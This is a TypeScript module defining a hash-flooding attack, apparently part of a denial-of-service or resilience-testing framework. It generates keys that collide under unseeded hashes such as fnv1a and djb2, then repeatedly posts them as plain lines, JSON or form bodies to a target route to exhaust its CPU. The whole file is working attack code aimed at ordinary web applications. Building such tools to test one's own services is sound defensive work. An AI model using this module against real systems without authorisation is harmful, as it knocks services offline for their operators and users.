import { z } from 'zod';
import type { AttackDefinition } from './attack.ts';
import { collidingKeys } from './collisions.ts';
import { type HashName, hashes } from './hashes.ts';
import { createHttpAttacker } from './http-attacker.ts';
import { pace } from './pace.ts';
import { seededRandom } from './random.ts';

export interface HashCollisionSettings {
  /** Path the keys are posted to. Default `/lookup`. */
  readonly path: string;
  /** Hash of the target's table. Default `fnv1a`. */
  readonly hash: HashName;
  /** Keys in one request; the time they cost grows with the square. Default 2000. 2 to 100,000. */
  readonly keys: number;
  /** How the keys are written: one a line (default), a JSON object or a form, each with the value 1. */
  readonly format: 'lines' | 'json' | 'form';
  /** Send over kept-alive connections (default) or a new one each time. */
  readonly keepAlive: boolean;
}

const contentTypes: Readonly<Record<HashCollisionSettings['format'], string>> = {
  lines: 'text/plain',
  json: 'application/json',
  form: 'application/x-www-form-urlencoded',
};

function bodyOf(keys: readonly string[], format: HashCollisionSettings['format']): Buffer {
  switch (format) {
    case 'lines':
      return Buffer.from(keys.join('\n'));
    case 'json':
      return Buffer.from(JSON.stringify(Object.fromEntries(keys.map((key) => [key, 1]))));
    case 'form':
      return Buffer.from(keys.map((key) => `${key}=1`).join('&'));
  }
}

/** Hash flooding of a table that the application wrote itself (V8's own tables are seeded). */
export const hashCollision: AttackDefinition<'hash-collision'> = {
  name: 'hash-collision',
  title: "Posts keys that all fall into one bucket of the application's own hash table.",
  needs: [
    'A route that puts keys from the request into a table with an unseeded 32-bit hash (fnv1a, djb2, …).',
    'Collisions resolved by walking: chains, or open addressing; buckets may be any number.',
  ],
  exhausts: 'cpu',
  settings: z.strictObject({
    path: z.string().startsWith('/').default('/lookup'),
    hash: z.enum(Object.keys(hashes) as [HashName, ...HashName[]]).default('fnv1a'),
    keys: z.int().min(2).max(100_000).default(2000),
    format: z.enum(['lines', 'json', 'form']).default('lines'),
    keepAlive: z.boolean().default(true),
  }),
  prepare({ path, hash, keys, format, keepAlive }, plan) {
    const body = bodyOf(collidingKeys(hashes[hash], keys, seededRandom(plan.seed)), format);
    const headers = { 'content-type': contentTypes[format] };
    return (context) => {
      const attacker = createHttpAttacker(context, { keepAlive });
      const fire = (): Promise<boolean> => attacker.send({ method: 'POST', path, headers, body });
      return pace(context, fire).finally(() => attacker.close());
    };
  },
};
